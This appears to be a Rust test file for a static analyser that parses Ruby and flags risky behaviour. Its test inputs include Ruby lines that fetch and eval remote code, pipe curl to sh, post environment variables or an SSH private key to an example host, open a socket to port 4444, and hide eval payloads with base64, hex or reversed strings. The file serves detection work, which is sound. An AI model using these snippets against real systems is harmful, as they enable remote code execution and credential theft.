use syntax::Language::Ruby;

use crate::summary::{expect, problems, summary, survives};

fn check(text: &str, expected: &[&str]) {
    assert_eq!(summary(Ruby, text), expected, "{text}");
}

#[test]
fn calls_members_and_texts_are_lowered() {
    check(
        "u = \"http://a/#{x}\"; Net::HTTP.get(URI(u)); `ls #{u}`; system 'a', \"b\"",
        &[r#"u = join("http://a/", x)"#, "Net.HTTP.get(URI(u))", r#"`(join("ls ", u))"#, r#"system("a", "b")"#],
    );
    check(
        "Kernel.exec x; y.send(:eval, z); Object.const_get(:Net).a; ->(q) { q }",
        &["exec(x)", "y.eval(z)", "Net.a()", "|q| { return q }"],
    );
    check(
        "ENV['A']; ENV.fetch('B'); f(a: 1, **o) { |b| c b }",
        &[r#"ENV["A"]"#, r#"ENV.fetch("B")"#, "f(a=1, **=*o, |b| { return c(b) })"],
    );
    check("x = <<~E\n a #{b}\nE\ny = %w[a b]", &[r#"x = join(" a ", b, "\n")"#, r#"y = ["a", "b"]"#]);
    check(
        "a = 'b' + \"\\x41\\n\" * 3; @c ||= d ? 1 : 0x10",
        &[r#"a = ("b" Add ("A\n" Multiply 3))"#, "@c += (d ? 1 : 16)"],
    );
}

#[test]
fn statements_keep_their_bodies() {
    check("if a then b() elsif c() then d() end", &["if a", "  b()", "else", "  if c()", "    d()"]);
    check("begin; a(); rescue => e; b(); ensure; c(); end", &["try", "  a()", "catch", "  b()", "finally", "  c()"]);
    check("class A < B\n def m(x) = y(x)\n z()\nend", &["class A", "  function m", "    return y(x)", "z()"]);
    check("for i in 1..2 do a(i) end; b() while c()", &["for i in ?(1, 2)", "  a(i)", "while c()", "  b()"]);
    check(
        "module M\n module_function\n def self.f; end\n g()\nend",
        &["block", "  module_function", "  function f", "  g()"],
    );
}

#[test]
fn what_is_fetched_and_run_is_seen() {
    expect(
        Ruby,
        "require 'net/http'\ndata = Net::HTTP.get(URI('https://a.example/x'))\neval(data)",
        &["net.fetch https://a.example/x", "net.fetch -> code.eval"],
    );
    expect(
        Ruby,
        "File.write('/tmp/x', URI.open('https://a.example').read); system('sh /tmp/x')",
        &["file.write /tmp/x", "net.fetch -> file.write", "file.write -> proc.exec"],
    );
    expect(Ruby, "`curl https://a.example | sh`", &["net.fetch https://a.example", "net.fetch -> code.eval"]);
    expect(Ruby, "URI.open('https://a.example') { |f| eval(f.read) }", &["net.fetch -> code.eval"]);
}

#[test]
fn hidden_texts_are_folded() {
    for text in [
        "eval(Base64.decode64('c3lzdGVtICJpZCI='))",
        "eval('c3lzdGVtICJpZCI='.unpack1('m'))",
        "eval('c3lzdGVtICJpZCI='.unpack('m').first)",
        "eval(['73797374656d2022696422'].pack('H*'))",
        "eval('\"di\" metsys'.reverse)",
        "eval([115,121,115,116,101,109,32,34,105,100,34].map(&:chr).join)",
        "eval([115,121,115,116,101,109,32,34,105,100,34].pack('c*'))",
        "Kernel.send(:eval, 'sys' + 'tem \"id\"')",
        "x = 'sXstem \"id\"'.gsub('X', 'y'); instance_eval(x)",
    ] {
        expect(Ruby, text, &["host.info user"]);
    }
}

#[test]
fn what_leaves_is_seen() {
    expect(Ruby, "Net::HTTP.post(URI('https://a.example'), ENV.to_h.to_s)", &["env.read_all -> net.send"]);
    expect(
        Ruby,
        "k = File.read(File.join('/root', '.ssh/id_rsa')); HTTParty.post('https://a.example', body: k)",
        &["file.read /root/.ssh/id_rsa", "file.read -> net.send"],
    );
    expect(Ruby, "s = TCPSocket.new('198.51.100.1', 4444); s.puts(`id`)", &["net.connect 198.51.100.1"]);
}

#[test]
fn broken_and_hostile_texts_are_survived() {
    assert_eq!(problems(Ruby, "def ((( end"), ["syntax-error"]);
    for text in [
        "'",
        "\"#{",
        "<<E",
        "%w[",
        "->",
        "def",
        "class",
        "a.",
        "?",
        ":",
        "x = <<A + <<B\nA\nB\n",
        "\"\\x\"",
        "\"\\u{}\"",
    ] {
        survives(Ruby, text.to_owned());
    }
    let many = 5_000;
    for (open, close) in [
        ("(", ")"),
        ("[", "]"),
        ("{a: ", "}"),
        ("f(", ")"),
        ("f { ", " }"),
        ("if a then ", " end"),
        ("\"#{", "}\""),
        ("!", ""),
        ("a.", ""),
        ("'a' + ", ""),
        ("->{ ", " }"),
        ("begin; ", "; end"),
        ("a ? b : ", ""),
        ("x = ", ""),
        ("def a; ", "; end"),
    ] {
        survives(Ruby, format!("{}x{}", open.repeat(many), close.repeat(many)));
    }
}
